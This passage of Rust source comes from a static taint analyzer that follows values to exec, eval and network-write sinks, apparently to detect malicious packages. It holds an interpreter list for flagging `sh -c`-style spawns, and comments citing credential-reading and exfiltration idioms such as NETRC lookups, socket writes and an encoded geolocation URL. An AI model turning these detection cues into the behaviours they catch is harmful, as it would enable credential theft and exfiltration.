    }
    out.retain(|local, module| local != module);
    out
}

/// The callee as the module it names: `require('https').get` →
/// `https.get`, `cp.exec` → `child_process.exec` (with `cp` an alias).
fn resolve_callee(callee: &str, aliases: &HashMap<String, String>) -> String {
    let callee = REQUIRE_CALL.replace(callee, "$1");
    let (head, rest) = match callee.find(['.', '(']) {
        Some(i) => (&callee[..i], &callee[i..]),
        None => (&callee[..], ""),
    };
    match aliases.get(head) {
        Some(module) => format!("{module}{rest}"),
        None => callee.into_owned(),
    }
}

impl State {
    fn add(&mut self, key: (u32, String), labels: Labels) {
        if labels == 0 {
            return;
        }
        let e = self.env.entry(key.0).or_default().entry(key.1).or_default();
        if *e | labels != *e {
            *e |= labels;
            self.changed = true;
        }
    }
}

struct Frame<'t> {
    node: Node<'t>,
    /// The node's [`kind`] bits.
    bits: u16,
    field: Option<&'static str>,
    acc: Labels,
    /// (field, labels, node, scope of a function child, sink hit below)
    children: Vec<Child<'t>>,
    keep_children: bool,
    /// A function frame: its scope.
    scope: Option<u32>,
    /// A sink hit whose call chain this node continues.
    chain: Option<usize>,
    /// The labels of the first named child (a call's first argument).
    first: Option<Labels>,
    /// The labels of the named children that are not keyword arguments
    /// (a call's positional arguments).
    positional: Labels,
    /// A second named child was seen (Python's `a if c else b`: `c`).
    seen_second: bool,
    /// An argument list's arguments: (keyword, labels).
    items: Vec<(Option<String>, Labels)>,
    /// A call's arguments, from its argument list.
    arg_items: Vec<(Option<String>, Labels)>,
}

/// Node kinds of argument lists.
const ARG_LISTS: &[&str] = &["arguments", "argument_list"];

#[derive(Clone, Copy)]
struct Child<'t> {
    field: Option<&'static str>,
    bits: u16,
    labels: Labels,
    node: Node<'t>,
    chain: Option<usize>,
    first: Labels,
    positional: Labels,
}

/// Follows values through the tree of one file.
pub fn analyze(
    classes: &FlowClasses,
    lang: Language,
    root: Node<'_>,
    source: &[u8],
    deadline: Instant,
) -> FlowFacts {
    analyze_seeded(classes, lang, root, source, deadline, &Seeds::default())
}

/// [`analyze`], starting from what other files of the package give this
/// one ([`Seeds`]).
pub fn analyze_seeded(
    classes: &FlowClasses,
    lang: Language,
    root: Node<'_>,
    source: &[u8],
    deadline: Instant,
    seeds: &Seeds,
) -> FlowFacts {
    let Some(spec) = spec(lang) else {
        return FlowFacts::default();
    };
    let kinds = Kinds::of(&root.language(), spec);
    let mut state = State {
        aliases: module_aliases(lang, source),
        returns: seeds.returns.clone(),
        param_seeds: seeds.params.clone(),
        defined: defined_functions(&kinds, root, source),
        ..State::default()
    };
    let seeded = seeds.returns.values().any(|l| *l != 0) || !seeds.params.is_empty();
    let mut facts = FlowFacts::default();
    let mut budget = MAX_NODES;
    for pass in 0..MAX_PASSES {
        state.changed = false;
        let mut out = FlowFacts::default();
        let complete = walk(
            classes,
            spec,
            &kinds,
            root,
            source,
            &mut state,
            &mut out,
            &mut budget,
            deadline,
        );
        let sources = out
            .present
            .keys()
            .any(|c| classes.classes[*c].kind == ClassKind::Source);
        facts = out;
        if !complete {
            facts.truncated = true;
            break;
        }
        // No source or no sink: nothing can flow (unless the callers'
        // values do, or the summary still needs the other passes).
        if pass == 0 && !seeded && (!sources || (facts.sinks.is_empty() && state.called.is_empty()))
        {
            break;
        }
        if !state.changed {
            break;
        }
    }
    facts.summary.functions = state
        .functions
        .keys()
        .map(|n| (n.clone(), state.returns.get(n).copied().unwrap_or(0)))
        .collect();
    let mut called = std::mem::take(&mut state.called);
    called.retain(|n| !state.functions.contains_key(n));
    facts.summary.called = called;
    facts.summary.has_sinks = !facts.sinks.is_empty();
    let functions = &state.functions;
    facts
        .summary
        .calls
        .retain(|(n, _, _, _)| !functions.contains_key(n));
    facts
}

#[allow(clippy::too_many_arguments)]
fn walk<'t>(
    classes: &FlowClasses,
    spec: &Spec,
    kinds: &Kinds,
    root: Node<'t>,
    source: &[u8],
    state: &mut State,
    out: &mut FlowFacts,
    budget: &mut usize,
    deadline: Instant,
) -> bool {
    let text = |n: Node<'_>| String::from_utf8_lossy(&source[n.byte_range()]).into_owned();
    let mut cursor = root.walk();
    let mut scopes: Vec<u32> = vec![0];
    let mut fn_names: Vec<(Option<String>, Labels)> = vec![(None, 0)];
    let mut next_scope = 1u32;
    let mut stack: Vec<Frame<'t>> = vec![new_frame(
        spec,
        kinds,
        root,
        None,
        &mut scopes,
        &mut fn_names,
        &mut next_scope,
        source,
        state,
    )];
    let mut visited = 0usize;
    loop {
        visited += 1;
        if *budget == 0 {
            return false;
        }
        *budget -= 1;
        if visited.is_multiple_of(4096) && Instant::now() > deadline {
            return false;
        }
        let bits = stack.last().map_or(0, |f| f.bits);
        let descend = bits & (kind::OPAQUE | kind::SKIP) == 0;
        if descend && cursor.goto_first_child() {
            let child = cursor.node();
            let field = cursor.field_name();
            stack.push(new_frame(
                spec,
                kinds,
                child,
                field,
                &mut scopes,
                &mut fn_names,
                &mut next_scope,
                source,
                state,
            ));
            continue;
        }
        loop {
            let mut frame = stack.pop().expect("a frame per open node");
            let items = std::mem::take(&mut frame.items);
            let child = finish(
                classes,
                spec,
                frame,
                &text,
                state,
                out,
                &mut scopes,
                &mut fn_names,
            );
            match stack.last_mut() {
                Some(parent) => {
                    // The condition of `a if c else b` / `c ? a : b` picks
                    // a value; it is not part of it.
                    let condition = parent.bits & kind::CONDITIONAL != 0
                        && (child.field == Some("condition")
                            || (spec.lang == "py"
                                && child.node.is_named()
                                && parent.first.is_some()
                                && !parent.seen_second));
                    if spec.lang == "py" && child.node.is_named() && parent.first.is_some() {
                        parent.seen_second = true;
                    }
                    if !condition {
                        parent.acc |= child.labels;
                    }
                    // A call's arguments one by one, for its parameters.
                    if parent.bits & kind::ARG_LIST != 0
                        && child.node.is_named()
                        && !child.node.is_extra()
                    {
                        if parent.items.len() < 32 {
                            let name = (child.bits & kind::KEYWORD_ARG != 0)
                                .then(|| child.node.child_by_field_name("name").map(&text))
                                .flatten();
                            parent.items.push((name, child.labels));
                        }
                    } else if !items.is_empty()
                        && child.field.is_some()
                        && parent.arg_items.is_empty()
                    {
                        parent.arg_items = items;
                    }
                    if child.node.is_named() && !child.node.is_extra() && !condition {
                        parent.first.get_or_insert(child.labels);
                        if child.bits & (kind::KEYWORD_ARG | kind::PAIR) == 0 {
                            parent.positional |= child.labels;
                        }
                    }
                    if parent.keep_children {
                        parent.children.push(child);
                    } else if child.chain.is_some() && parent.chain.is_none() {
                        parent.chain = child.chain;
                    }
                }
                None => return true,
            }
            if cursor.goto_next_sibling() {
                let next = cursor.node();
                let field = cursor.field_name();
                stack.push(new_frame(
                    spec,
                    kinds,
                    next,
                    field,
                    &mut scopes,
                    &mut fn_names,
                    &mut next_scope,
                    source,
                    state,
                ));
                break;
            }
            if !cursor.goto_parent() {
                // The root's frame is finished by the pop above on the
                // next round; reaching here means the stack had it.
                while let Some(frame) = stack.pop() {
                    finish(
                        classes,
                        spec,
                        frame,
                        &text,
                        state,
                        out,
                        &mut scopes,
                        &mut fn_names,
                    );
                }
                return true;
            }
        }
    }
}

#[allow(clippy::too_many_arguments)]
fn new_frame<'t>(
    spec: &Spec,
    kinds: &Kinds,
    node: Node<'t>,
    field: Option<&'static str>,
    scopes: &mut Vec<u32>,
    fn_names: &mut Vec<(Option<String>, Labels)>,
    next_scope: &mut u32,
    source: &[u8],
    state: &mut State,
) -> Frame<'t> {
    let bits = kinds.of_node(node);
    let is_fn = bits & kind::FUNCTION != 0;
    let keep = bits & kind::KEEP != 0;
    let mut scope = None;
    if is_fn {
        let id = *next_scope;
        *next_scope += 1;
        // A function's name, or the name it is assigned to
        // (`const s = (x) => …`, `s = lambda x: …`).
        let name = node
            .child_by_field_name("name")
            .or_else(|| {
                let parent = node.parent()?;
                match parent.kind() {
                    "variable_declarator" => parent.child_by_field_name("name"),
                    "assignment" | "assignment_expression" => parent.child_by_field_name("left"),
                    _ => None,
                }
                .filter(|n| n.kind() == "identifier")
            })
            .map(|n| String::from_utf8_lossy(&source[n.byte_range()]).into_owned());
        let params = node
            .child_by_field_name("parameters")
            .or_else(|| node.child_by_field_name("parameter"))
            .map(|p| identifiers_in(spec, p, source))
            .unwrap_or_default();
        state.params_of.insert(id, params.clone());
        let ordered = node
            .child_by_field_name("parameters")
            .and_then(|p| plain_params(p, source));
        state.positional.insert(id, ordered);
        if let Some(n) = &name {
            if let Some((union, items)) = state.param_seeds.get(n).cloned() {
                bind_args(state, id, &params, &items, union);
            }
            state.functions.entry(n.clone()).or_insert((id, params));
        }
        state.fn_scopes.insert(node.id(), id);
        scopes.push(id);
        fn_names.push((name, 0));
        scope = Some(id);
    }
    Frame {
        node,
        bits,
        field,
        acc: 0,
        children: Vec::new(),
        keep_children: keep,
        scope,
        chain: None,
        first: None,
        positional: 0,
        seen_second: false,
        items: Vec::new(),
        arg_items: Vec::new(),
    }
}

/// The names of the named functions under `root` (bounded).
fn defined_functions(
    kinds: &Kinds,
    root: Node<'_>,
    source: &[u8],
) -> std::collections::HashSet<String> {
    let mut out = std::collections::HashSet::new();
    let mut cursor = root.walk();
    let mut seen = 0usize;
    loop {
        let n = cursor.node();
        seen += 1;
        if kinds.of_node(n) & kind::FUNCTION != 0 {
            if let Some(name) = n.child_by_field_name("name") {
                if out.len() < 4096 {
                    out.insert(String::from_utf8_lossy(&source[name.byte_range()]).into_owned());
                }
            }
        }
        if seen > MAX_NODES / 8 {
            return out;
        }
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return out;
            }
        }
    }
}

/// Programs that run the code they are given (`sh -c …`, `python -c …`).
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "node",
    "nodejs",
    "deno",
    "bun",
    "perl",
    "ruby",
    "php",
    "pwsh",
    "powershell",
    "cmd",
    "osascript",
    "env",
    "busybox",
];

/// Whether a string literal's text names an interpreter.
fn names_interpreter(literal: &str) -> bool {
    let t = literal
        .trim_matches(|c| matches!(c, '"' | '\'' | '`'))
        .trim();
    let program = t.split_whitespace().next().unwrap_or_default();
    let base = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    let base = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&base) || INTERPRETERS.contains(&program)
}

/// What a process spawn runs: the program and, for an interpreter, what
/// it is told to run. `subprocess.run(["ffprobe", path])` and
/// `spawn("ffprobe", [path])` run ffprobe on a path, whatever the path
/// holds; `spawn("sh", ["-c", x])` and `["bash", "-c", x]` run `x`; a
/// command string runs all of itself.
fn exec_target(
    classes: &FlowClasses,
    args: Option<Node<'_>>,
    text: &dyn Fn(Node<'_>) -> String,
    first: Labels,
    all: Labels,
) -> Labels {
    let Some(args) = args else { return first };
    let Some(arg0) = args.named_child(0) else {
        return first;
    };
    let is_string = |n: Node<'_>| {
        matches!(
            n.kind(),
            "string"
                | "string_literal"
                | "raw_string_literal"
                | "encapsed_string"
                | "template_string"
        )
    };
    if is_string(arg0) {
        // `spawn("sh", ["-c", x])`: the interpreter runs what follows.
        return if args.named_child_count() > 1 && names_interpreter(&text(arg0)) {
            all
        } else {
            first
        };
    }
    if matches!(
        arg0.kind(),
        "list" | "array" | "array_expression" | "array_creation_expression"
    ) {
        if let Some(program) = arg0.named_child(0).filter(|p| is_string(*p)) {
            let name = text(program);
            if !names_interpreter(&name) {
                // A fixed program (`curl` still counts as a network
                // tool): its arguments are data to it.
                return classes.string_labels(name.trim_matches(|c| matches!(c, '"' | '\'' | '`')));
            }
        }
    }
    first
}

/// A call's arguments to a function's parameters: each by keyword, else
/// by position (a method called on an object skips `self`); with no
/// argument list, or parameters that are not plain names, every
/// parameter takes every argument.
fn bind_args(state: &mut State, scope: u32, params: &[String], items: &ArgLabels, union: Labels) {
    let positional = state.positional.get(&scope).cloned().flatten();
    let Some(mut names) = positional.filter(|_| !items.is_empty()) else {
        for p in params {
            state.add((scope, p.clone()), union);
        }
        return;
    };
    let given = items.iter().filter(|(k, _)| k.is_none()).count();
    if names.len() > given && matches!(names.first().map(String::as_str), Some("self" | "cls")) {
        names.remove(0);
    }
    let mut i = 0;
    for (kw, l) in items {
        let target = match kw {
            Some(k) => names.iter().find(|n| *n == k).cloned(),
            None => {
                i += 1;
                names.get(i - 1).cloned()
            }
        };
        match target {
            Some(p) => state.add((scope, p), *l),
            // More arguments than parameters (`*args`): every parameter
            // may take them.
            None => {
                for p in params {
                    state.add((scope, p.clone()), *l);
                }
            }
        }
    }
}

/// A parameter list's names in order, when every parameter is a plain
/// name (with a type or a default at most); `None` for destructuring,
/// rest parameters and anything else.
fn plain_params(list: Node<'_>, source: &[u8]) -> Option<Vec<String>> {
    let name = |n: Node<'_>| String::from_utf8_lossy(&source[n.byte_range()]).into_owned();
    let mut out = Vec::new();
    let mut cursor = list.walk();
    for p in list.named_children(&mut cursor) {
        let n = match p.kind() {
            "identifier" | "self" => p,
            "typed_parameter" => p.named_child(0).filter(|c| c.kind() == "identifier")?,
            "default_parameter" | "typed_default_parameter" => p.child_by_field_name("name")?,
            "assignment_pattern" => p
                .child_by_field_name("left")
                .filter(|c| c.kind() == "identifier")?,
            "required_parameter" | "optional_parameter" => p
                .child_by_field_name("pattern")
                .filter(|c| c.kind() == "identifier")?,
            "comment" => continue,
            _ => return None,
        };
        out.push(name(n));
        if out.len() > 32 {
            return None;
        }
    }
    Some(out)
}

/// Identifier names under `node` (bounded), for targets and parameters.
fn identifiers_in(spec: &Spec, node: Node<'_>, source: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut cursor = node.walk();
    let mut seen = 0;
    loop {
        let n = cursor.node();
        seen += 1;
        if spec.identifiers.contains(&n.kind())
            || matches!(n.kind(), "shorthand_property_identifier_pattern")
        {
            let name = String::from_utf8_lossy(&source[n.byte_range()]).into_owned();
            if !out.contains(&name) {
                out.push(name);
            }
        }
        if seen > 256 || out.len() > 32 {
            return out;
        }
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.node() == node {
                return out;
            }
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() || cursor.node() == node {
                return out;
            }
        }
    }
}

/// What `name` holds where `scopes` are open: the innermost scope that
/// binds it (a parameter or an assignment) and nothing beyond, so a
/// parameter or local shadows the enclosing function's name of the same
/// spelling (in minified code, every function's `e`).
fn lookup(state: &State, scopes: &[u32], name: &str) -> Labels {
    let mut out = 0;
    for s in scopes.iter().rev() {
        if let Some(l) = state.env.get(s).and_then(|names| names.get(name)) {
            out |= l;
        }
        if *s != 0 && binds(state, *s, name) {
            break;
        }
    }
    out
}

fn is_param(state: &State, scope: u32, name: &str) -> bool {
    state
        .params_of
        .get(&scope)
        .is_some_and(|p| p.iter().any(|n| n == name))
}

/// Whether `scope` binds `name`: as a parameter or by assignment.
fn binds(state: &State, scope: u32, name: &str) -> bool {
    state.bound.get(&scope).is_some_and(|b| b.contains(name)) || is_param(state, scope, name)
}

fn is_shared_member(text: &str) -> bool {
    text.starts_with("self.") || text.starts_with("this.") || text.starts_with("$this->")
}

#[allow(clippy::too_many_arguments)]
fn finish<'t>(
    classes: &FlowClasses,
    spec: &Spec,
    frame: Frame<'t>,
    text: &dyn Fn(Node<'_>) -> String,
    state: &mut State,
    out: &mut FlowFacts,
    scopes: &mut Vec<u32>,
    fn_names: &mut Vec<(Option<String>, Labels)>,
) -> Child<'t> {
    let node = frame.node;
    let bits = frame.bits;
    if bits & kind::ACTS == 0 && frame.scope.is_none() {
        // Nothing here but what the children pass up.
        return Child {
            field: frame.field,
            bits,
            labels: frame.acc,
            node,
            chain: frame.chain,
            first: frame.first.unwrap_or(0),
            positional: frame.positional,
        };
    }
    let kind = node.kind();
    let mut labels = frame.acc;
    let mut chain = frame.chain;
    let site = |node: Node<'_>| Site {
        line: node.start_position().row as u32 + 1,
        snippet: text(node)
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
            .chars()
            .take(160)
            .collect(),
    };
    let note = |out: &mut FlowFacts, found: Labels, node: Node<'_>| {
        if found == 0 {
            return;
        }
        for i in 0..classes.classes.len() {
            if found & (1 << i) != 0 && !out.present.contains_key(&i) {
                out.present.insert(i, site(node));
            }
        }
    };
    let child_of = |field: &str| -> Option<&Child<'t>> {
        if field.is_empty() {
            return None;
        }
        frame.children.iter().find(|c| c.field == Some(field))
    };

    if bits & kind::IDENT != 0 {
        let name = text(node);
        if !frame.field.is_some_and(|f| NAMING_FIELDS.contains(&f)) || kind == "instance_variable" {
            if kind == "instance_variable" || kind == "global_variable" {
                labels |= lookup(state, &[0], &name);
            } else {
                labels |= lookup(state, &scopes[..], &name);
            }
        }
        if let Some(l) = classes.identifiers.get(&name) {
            labels |= l;
            note(out, *l, node);
        }
        if classes.env_whole.contains(&name) {
            let l = env_use(classes, node, text);
            labels |= l;
            note(out, l, node);
        }
    } else if bits & (kind::OPAQUE | kind::STRING) != 0 {
        let value = crate::parse::decode_literal(&text(node));
        let l = classes.string_labels(&value);
        labels |= l;
        note(out, l, node);
    }

    if let Some((_, object_field)) = spec.members.iter().find(|(k, _)| *k == kind) {
        let t = text(node);
        if t.len() <= 128 {
            if let Some(l) = classes.members.get(&t) {
                labels |= l;
                note(out, *l, node);
            }
            if classes.env_whole.contains(&t) {
                let l = env_use(classes, node, text);
                labels |= l;
                note(out, l, node);
            }
            if is_shared_member(&t) {
                labels |= lookup(state, &[0], &t);
            }
        }
        let object =
            child_of(object_field).or_else(|| frame.children.iter().find(|c| c.node.is_named()));
        if let Some(c) = object {
            if chain.is_none() {
                chain = c.chain;
            }
            // One variable read by name out of a whole environment held in
            // a value (`env["NETRC"]` with `env = os.environ` passed in) is
            // that variable, not the environment.
            if c.labels & (1 << classes.env_dump) != 0
                && kind.contains("subscript")
                && t.len() <= 128
            {
                let key = t.get(text(c.node).len()..).unwrap_or_default();
                if key.trim_start().starts_with("[\"") || key.trim_start().starts_with("['") {
                    labels = single_env_var(classes, labels, key);
                }
            }
        }
    }

    if let Some((_, callee_field, args_field)) = spec.calls.iter().find(|(k, _, _)| *k == kind) {
        let callee_node = node.child_by_field_name(callee_field);
        let callee = match (callee_node, kind) {
            (Some(c), "call" | "member_call_expression" | "scoped_call_expression") => {
                match node
                    .child_by_field_name("receiver")
                    .or_else(|| node.child_by_field_name("object"))
                    .or_else(|| node.child_by_field_name("scope"))
                {
                    Some(r) => format!("{}.{}", text(r), text(c)),
                    None => text(c),
                }
            }
            (Some(c), _) => text(c),
            (None, _) => String::new(),
        };
        let callee: String = callee.split_whitespace().collect::<Vec<_>>().join(" ");
        let callee = if callee.len() <= 200 {
            resolve_callee(&callee, &state.aliases)
        } else {
            callee
        };
        let args_node = if args_field.is_empty() {
            None
        } else {
            node.child_by_field_name(args_field)
        };
        let args = call_args(spec, args_node, text);
        let args_child = frame
            .children
            .iter()
            .find(|c| c.field == Some(args_field) && !args_field.is_empty());
        let mut args_labels: Labels = frame
            .children
            .iter()
            .filter(|c| {
                c.field == Some(args_field)
                    || (args_field.is_empty() && c.field != Some(callee_field))
                    || c.field == Some("block")
            })
            .map(|c| c.labels)
            .fold(0, |a, b| a | b);
        if args_field.is_empty() {
            // A macro's token tree: its identifiers.
            args_labels |= frame.acc;
        }
        let callee_child = child_of(callee_field)
            .or_else(|| child_of("receiver"))
            .or_else(|| child_of("object"));
        let callee_labels = callee_child.map_or(0, |c| c.labels);
        let direct = if callee.len() <= 200 {
            classes.call_classes(spec.lang, &callee, &args)
                | env_call(classes, spec.lang, &callee, &args, text, args_node)
                | decoder_passed(classes, spec, args_node, text)
        } else {
            0
        };
        // A parameter called by name (`function (exec) { return exec() }`)
        // is whatever the caller passed, not the module function of that
        // name.
        // A function of this file by that name is that function too
        // (`def fetch(url, env): …` is not the browser's `fetch`).
        let shadowed = !callee.contains(['.', ':', '>'])
            && (state.defined.contains(&callee)
                || scopes
                    .iter()
                    .any(|s| state.params_of.get(s).is_some_and(|p| p.contains(&callee))));
        let direct = if shadowed { 0 } else { direct };
        // `chr(n)` of one number is everyday code (a parser naming a
        // letter); it decodes when it turns a sequence of codes into text
        // (`''.join(chr(c) for c in codes)`) or undoes an XOR.
        let direct = match classes.index("decoded") {
            Some(d) if spec.lang == "py" && callee == "chr" && !decodes_codes(node, text) => {
                direct & !(1 << d)
            }
            _ => direct,
        };
        note(out, direct, node);
        // Sinks: this call, a handle's method, or a continued chain.
        let bare = last_segment(&callee).to_owned();
        // A decoder of a literal: what the literal decodes to is classed
        // like any string (`atob('aHR0cHM6Ly9pcGFwaS5jby9qc29u')` is a
        // geolocation URL).
        let wraps_decoder = |d: usize| state.returns.get(&bare).is_some_and(|r| r & (1 << d) != 0);
        let direct = match classes.index("decoded") {
            Some(d) if direct & (1 << d) != 0 || wraps_decoder(d) => {
                let mut folded = 0;
                for lit in args.literals.iter().take(4) {
                    if let Some(text) = decode_literal_text(lit) {
                        folded |= classes.string_labels(&text);
                    }
                }
                if folded != 0 {
                    note(out, folded, node);
                }
                direct | folded
            }
            _ => direct,
        };
        let handle_bit = classes.handle.map_or(0, |h| 1 << h);
        let receiver_labels = frame
            .children
            .iter()
            .find(|c| matches!(c.field, Some("receiver" | "object" | "scope")))
            .map_or(callee_labels, |c| c.labels);
        // Rust's `write!(stream, …)`: the stream is the receiver.
        let receiver_labels =
            if kind == "macro_invocation" && matches!(bare.as_str(), "write" | "writeln") {
                receiver_labels | args_labels
            } else {
                receiver_labels
            };
        // Reading from a connection: the call returns what the peer sent
        // (`s.recv(4096)`, `conn.getresponse()`), and buffers passed in
        // are filled with it (`stream.read_to_end(&mut buf)`).
        if receiver_labels & handle_bit != 0 && READS.contains(&bare.as_str()) {
            if let Some(r) = classes.index("response") {
                labels |= 1 << r;
                if let Some(a) = args_node {
                    for name in target_names(spec, a, text).into_iter().take(4) {
                        let target = binding_scope(state, scopes, &name);
                        state.add((target, name), 1 << r);
                    }
                }
            }
        }
        // A function given the handle first acts on it as a method would
        // (`fwrite($sock, $data)` after `$sock = fsockopen(…)`).
        let handle_given = !callee.contains(['.', ':', '>'])
            && args_child.is_some_and(|a| a.first & handle_bit != 0);
        let mut hit_here = None;
        for (i, class) in classes.classes.iter().enumerate() {
            if class.kind != ClassKind::Sink {
                continue;
            }
            let direct_sink = direct & (1 << i) != 0;
            let via_handle = (receiver_labels & handle_bit != 0 || handle_given)
                && class.handle_methods.contains(&bare);
            if direct_sink || via_handle {
                // What a call runs is its code argument: Python's and
                // Ruby's `eval(code, globals, locals)` run the first, and
                // Python's `subprocess.run(cmd, env=…, cwd=…)` runs the
                // positional ones.
                let args_in = match (spec.lang, class.id.as_str(), args_child) {
                    ("py" | "rb", "eval" | "import", Some(a)) if direct_sink => a.first,
                    ("py", "exec", Some(a)) if direct_sink => a.positional,
                    _ => args_labels,
                };
                let labels_in = args_in | receiver_labels;
                out.sinks.push(SinkHit {
                    class: i,
                    labels: labels_in,
                    // What runs is all of eval's code (`new Function(a, body)`);
                    // a spawn or a write acts on its first argument.
                    target: if class.id == "eval" {
                        labels_in
                    } else if class.id == "exec" {
                        exec_target(
                            classes,
                            args_node,
                            text,
                            args_child.map_or(args_labels, |a| a.first),
                            args_labels,
                        ) | receiver_labels
                    } else {
                        args_child.map_or(args_labels, |a| a.first) | receiver_labels
                    },
                    site: site(node),
                });
                if via_handle {
                    note(out, 1 << i, node);
                }
                hit_here.get_or_insert(out.sinks.len() - 1);
            }
        }
        // Builder chains and bound sink calls.
        let receiver_child = frame
            .children
            .iter()
            .find(|c| matches!(c.field, Some("receiver" | "object" | "scope")));
        let continued = callee_child
            .and_then(|c| c.chain)
            .or_else(|| receiver_child.and_then(|c| c.chain))
            .or_else(|| {
                receiver_child
                    .map(|c| text(c.node))
                    .or_else(|| {
                        callee_node.and_then(|c| {
                            let t = text(c);
                            let receiver = t.rsplit_once('.').map(|(r, _)| r.to_owned());
                            receiver
                        })
                    })
                    .and_then(|r| {
                        scopes
                            .iter()
                            .rev()
                            .find_map(|s| state.sink_handles.get(&(*s, r.clone())).copied())
                    })
            });
        if let Some(h) = continued {
            if let Some(hit) = out.sinks.get_mut(h) {
                hit.labels |= args_labels;
                // A builder's arguments are the command it runs
                // (`Command::new("sh").arg("-c").arg(x)`); what is written
                // to its input later is data.
                if matches!(
                    bare.as_str(),
                    "arg" | "args" | "raw_arg" | "current_dir" | "new"
                ) {
                    hit.target |= args_labels;
                }
            }
        }
        chain = hit_here.or(continued);
        // Containers: `parts.push(x)`, `data.append(x)`, `d.update(x)`,
        // `buf.write(x)` put x's labels into the container.
        if args_labels & !sink_bits(classes) != 0 && MUTATORS.contains(&bare.as_str()) {
            let receiver = callee_node
                .and_then(|c| {
                    c.child_by_field_name("object")
                        .or_else(|| c.child_by_field_name("value"))
                })
                .or_else(|| node.child_by_field_name("receiver"))
                .or_else(|| node.child_by_field_name("object"));
            if let Some(r) = receiver
                .filter(|r| spec.identifiers.contains(&r.kind()) || r.kind() == "variable_name")
            {
                let name = text(r);
                let target = binding_scope(state, scopes, &name);
                let carried = args_labels & !sink_bits(classes);
                state.add((target, name.clone()), carried);
                mark_out_param(state, scopes, fn_names, &name, carried);
            }
        }
        // A local function that fills a container it was given
        // (`walk(dir, &mut found)`): the caller's argument takes what it
        // put there.
        if let (Some(out_labels), Some(a)) = (state.out_params.get(&bare).copied(), args_node) {
            let mut cur = a.walk();
            let mut filled = Vec::new();
            for arg in a.named_children(&mut cur).take(16) {
                let t = text(arg);
                let name = if let Some(n) = t.strip_prefix("&mut ") {
                    Some(n.trim().to_owned())
                } else if spec.identifiers.contains(&arg.kind()) {
                    Some(t)
                } else {
                    None
                };
                if let Some(n) = name.filter(|n| {
                    n.chars()
                        .all(|c| c.is_alphanumeric() || c == '_' || c == '$')
                }) {
                    filled.push(n);
                }
            }
            for name in filled {
                let target = binding_scope(state, scopes, &name);
                state.add((target, name.clone()), out_labels);
                mark_out_param(state, scopes, fn_names, &name, out_labels);
            }
        }
        // Local functions: parameters take the arguments' labels, the
        // call takes what the function returns.
        if let Some((scope, params)) = state.functions.get(&bare).cloned() {
            bind_args(state, scope, &params, &frame.arg_items, args_labels);
        } else if !bare.is_empty() && bare.len() <= 64 && maybe_imported(&callee, &state.aliases) {
            // A function of another file, perhaps: the package-wide pass
            // follows values into it and out of it.
            if state.called.len() < MAX_SUMMARY_CALLS {
                state.called.insert(bare.clone());
            }
            let carried = args_labels & !sink_bits(classes);
            if carried != 0 && out.summary.calls.len() < MAX_SUMMARY_CALLS {
                out.summary.calls.push((
                    bare.clone(),
                    carried,
                    site(node),
                    frame.arg_items.clone(),
                ));
            }
        }
        // A function of this file gives what it returns, not whatever it
        // was handed (its parameters carry that, and its return when it
        // gives them back).
        let own_function = state.defined.contains(&bare)
            && (!callee.contains(['.', ':', '>'])
                || ["self.", "this.", "cls.", "$this->", "Self::"]
                    .iter()
                    .any(|p| callee.strip_prefix(p) == Some(bare.as_str())));
        if own_function {
            labels = direct & !sink_bits(classes);
        }
        if let Some(r) = state.returns.get(&bare) {
            labels |= r;
        }
        // Callbacks: their parameters take what the receiver and the call
        // produce.
        let feed = (callee_labels | receiver_labels | direct) & !sink_bits(classes);
        if feed != 0 {
            let mut callbacks: Vec<Node<'_>> = Vec::new();
            if let Some(args) = args_node {
                let mut cur = args.walk();
                callbacks.extend(
                    args.named_children(&mut cur)
                        .filter(|a| spec.functions.contains(&a.kind())),
                );
            }
            if let Some(b) = node.child_by_field_name("block") {
                callbacks.push(b);
            }
            for cb in callbacks {
                if let Some(scope) = state.fn_scopes.get(&cb.id()).copied() {
                    for p in fn_params(spec, cb, text) {
                        state.add((scope, p), feed);
                    }
                }
            }
        }
        labels |= direct & !sink_bits(classes);
        labels &= !classes.cleared_by(direct);
        // `env.get("X")` on a whole environment held in a value.
        if receiver_labels & (1 << classes.env_dump) != 0
            && classes.env_single.contains(&bare)
            && !args.literals.is_empty()
        {
            let key = args.literals[0].clone();
            labels = single_env_var(classes, labels, &key);
        }
    }

    if spec.shell.contains(&kind) {
        let i = classes.index("exec");
        if let Some(i) = i {
            let value = text(node);
            let l = classes.string_labels(value.trim_matches('`'));
            labels |= l;
            note(out, l | (1 << i), node);
            out.sinks.push(SinkHit {
                class: i,
                labels: frame.acc | l,
                target: frame.acc | l,
                site: site(node),
            });
        }
    }

    if let Some((_, target_field, value_field)) = spec.assigns.iter().find(|(k, _, _)| *k == kind) {
        let target = node.child_by_field_name(target_field);
        let value: Option<&Child<'t>> = if value_field.is_empty() {
            frame
                .children
                .iter()
                .find(|c| c.node.is_named() && c.field != Some(target_field))
        } else {
            child_of(value_field)
        };
        if let (Some(target), Some(value)) = (target, value) {
            let scope = *scopes.last().unwrap_or(&0);
            let t = text(target);
            if is_shared_member(&t) || target.kind() == "instance_variable" {
                state.add((0, t.clone()), value.labels);
            }
            // A declaration (`var`/`let`/`const`, Rust's `let`, a loop
            // variable) and any Python assignment bind in the current
            // scope; a plain assignment in a closure updates the enclosing
            // binding (`let b = ''; res.on('data', d => b += d)`).
            let declares = spec.lang == "py"
                || matches!(
                    kind,
                    "variable_declarator"
                        | "let_declaration"
                        | "let_condition"
                        | "for_expression"
                        | "for_in_statement"
                );
            for name in target_names(spec, target, text) {
                let local = declares
                    || state.bound.get(&scope).is_some_and(|b| b.contains(&name))
                    || is_param(state, scope, &name);
                let outer = scopes
                    .iter()
                    .filter(|_| !local)
                    .rev()
                    .skip(1)
                    .find(|s| binds(state, **s, &name))
                    .copied();
                match outer {
                    Some(outer) => state.add((outer, name.clone()), value.labels),
                    None => {
                        state.bound.entry(scope).or_default().insert(name.clone());
                    }
